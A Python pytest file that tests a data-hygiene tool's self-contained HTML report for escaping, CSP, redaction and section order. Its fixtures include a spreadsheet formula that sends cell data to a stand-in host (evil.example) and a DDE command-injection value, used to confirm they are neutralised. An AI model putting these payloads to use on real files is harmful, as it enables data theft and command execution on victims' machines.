"""report.html: one self-contained, escaped page; the Python API around it."""

from __future__ import annotations

import base64
import hashlib
import re
from pathlib import Path

import jinja2
import pytest

from hygiene.report.html import assets, environment, pct, render_html, ticks
from hygiene.report.options import ReportOptions
from tests.report_samples import SCRIPT_EMAIL, SCRIPT_NAME, sample_audit


@pytest.fixture(scope="module")
def audit():
    return sample_audit()


@pytest.fixture(scope="module")
def page(audit):
    return render_html(audit)


def test_page_is_one_file_with_no_network_reference(page):
    assert page.startswith("<!doctype html>")
    assert "<style>" in page and "<script>" in page
    # Nothing to fetch: no src/href to another file or host, no @import or url() in the CSS.
    assert re.findall(r"""(?:src|href)\s*=\s*["'](?!#|data:)""", page) == []
    assert "@import" not in page and "url(" not in page
    # The only address in the page is the one inside a contact's company, shown as text
    # (in the findings and in the duplicate cluster whose member gives it up).
    assert page.count("http://") == page.count("=HYPERLINK(&#34;http://evil.example/?") >= 1
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Click&#34;)" in page


def test_csp_forbids_the_network_and_allows_only_our_script(page):
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp is not None
    policy = csp.group(1).replace("&#39;", "'")
    assert "default-src 'none'" in policy
    js = assets().js
    digest = base64.b64encode(hashlib.sha256(str(js).encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in policy
    # The hash is of exactly the inline script, so the browser runs it (checked in Chromium).
    assert f"<script>{js}</script>" in page


@pytest.mark.parametrize("hostile", [SCRIPT_NAME, SCRIPT_EMAIL, "<b>Fay</b>"])
def test_values_from_the_data_are_escaped(page, hostile):
    assert hostile not in page
    assert hostile.replace("<", "&lt;").replace(">", "&gt;") in page


def test_only_our_script_tag(page):
    assert page.count("<script") == 1


def test_score_and_grade_come_first(page, audit):
    first = page.index(f"{audit.score.overall:.1f}")
    assert first < page.index('id="workflows"') < page.index('id="findings"')
    assert f">{audit.score.grade}</div>" in page


def test_sections_follow_what_a_person_does(page):
    """Verdict and fix-first, workflows, the findings table, dimensions, duplicates, sources."""
    order = ["overview", "workflows", "findings", "dimensions", "duplicates", "sources"]
    at = [page.index(f'<section id="{s}"') for s in order]
    assert at == sorted(at)
    nav = page[page.index('<nav class="tabs"') : page.index("</nav>")]
    hrefs = re.findall(r'href="#(\w+)"', nav)
    assert [h for h in hrefs if h in order] == order


def test_uniqueness_card_counts_the_duplicates(page):
    card = page[page.index('id="dim-uniqueness"') :]
    card = card[: card.index("</article>")]
    assert "No findings in this dimension" not in card
    assert "2 duplicate clusters: 2 records would merge away" in card
    assert 'href="#duplicates"' in card


def test_clusters_name_the_rule_and_what_each_member_gives_up():
    audit = sample_audit()
    audit.duplicates[0]["survivor"]["reason"] = "most complete (9 of 14 fields)"
    page = render_html(audit)
    section = page[page.index('<section id="duplicates"') :]
    section = section[: section.index("</section>")]
    assert "most complete (9 of 14 fields)" in section
    assert "not recorded" in section  # the other cluster's audit record has no reason
    assert '<span class="lost-item">email: ann@gmial.com</span>' in section
    assert section.count("<details class=\"cluster\" open") == 2


def test_a_card_per_workflow_and_each_dimension(page, audit):
    for w in audit.score.workflows.values():
        assert f'id="wf-{w.name}"' in page
    for d in audit.score.dimensions:
        assert f'id="dim-{d}"' in page
    assert 'id="trend"' in page and "since the last audit" in page.lower()


def test_redacted_page_holds_no_email_phone_or_name(audit):
    page = render_html(audit, ReportOptions(redact=True))
    for raw in ("ann@gmial.com", "bob@acme.com", "+1 415 555 2671", "O&#39;Neil", "Jo Park"):
        assert raw not in page, raw
    assert "a***@g***.com" in page and "redacted" in page


def test_no_trend_section_without_history():
    page = render_html(sample_audit(trend=False))
    assert 'id="trend"' not in page


def test_findings_table_capped_with_a_pointer_to_the_workbook(audit):
    page = render_html(audit, ReportOptions(max_findings=4))
    body = page[page.index('id="findings-table"') :]
    assert len(re.findall(r'<tr( hidden)?><td><span class="sev', body)) == 4
    assert f"4 of {len(audit.findings)} shown" in page and "review.xlsx" in page


def test_templates_raise_on_an_undefined_name():
    env = environment()
    assert env.undefined is jinja2.StrictUndefined and env.autoescape
    with pytest.raises(jinja2.UndefinedError):
        env.from_string("{{ ctx.nope }}").render(ctx=object())


@pytest.mark.parametrize(
    "text,html",
    [
        ("Run `hygiene clean` then", "Run <code>hygiene clean</code> then"),
        ("`<b>`", "<code>&lt;b&gt;</code>"),
        ("a ` b", "a ` b"),
        ("<i>x</i>", "&lt;i&gt;x&lt;/i&gt;"),
    ],
)
def test_ticks_filter_escapes_everything(text, html):
    assert str(ticks(text)) == html


@pytest.mark.parametrize(
    "share,text", [(0, "0.0%"), (0.0004, "<0.1%"), (0.123, "12.3%"), (1, "100.0%")]
)
def test_pct(share, text):
    assert pct(share) == text


def test_python_api(audit, tmp_path: Path):
    html = audit.to_html()
    assert html.startswith("<!doctype html>")
    fragment = audit._repr_html_()
    assert fragment.startswith('<div class="hygiene-nb">') and "<script" not in fragment
    assert "Newsletter" in fragment and f"{audit.score.overall:.1f}" in fragment
    assert SCRIPT_NAME not in fragment
    written = audit.save(tmp_path)
    assert sorted(p.name for p in written.values()) == ["audit.json", "report.html", "review.xlsx"]
    assert (tmp_path / "report.html").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "data,columns,workflows",
    [
        ({"Email": ["a@acme.com"], "First Name": ["Ann"]}, {"Email": "email"}, None),
        ({"Email": [], "First Name": []}, {"Email": "email"}, ["newsletter"]),
        ({"Company": ["Acme", "=cmd|' /C calc'!A0"]}, {"Company": "company"}, None),
    ],
    ids=["one clean record", "no rows", "no email column"],
)
def test_every_writer_copes_with_small_and_odd_sources(tmp_path: Path, data, columns, workflows):
    import hygiene
    from tests.helpers import make_source

    result = hygiene.audit(make_source("crm", data, columns), workflows=workflows)
    written = result.save(tmp_path, ["html", "json", "xlsx", "md"], redact=True)
    assert all(p.stat().st_size for p in written.values())
    page = written["html"].read_text(encoding="utf-8")
    assert 'id="overview"' in page and "CRM and ESP by email address" not in page
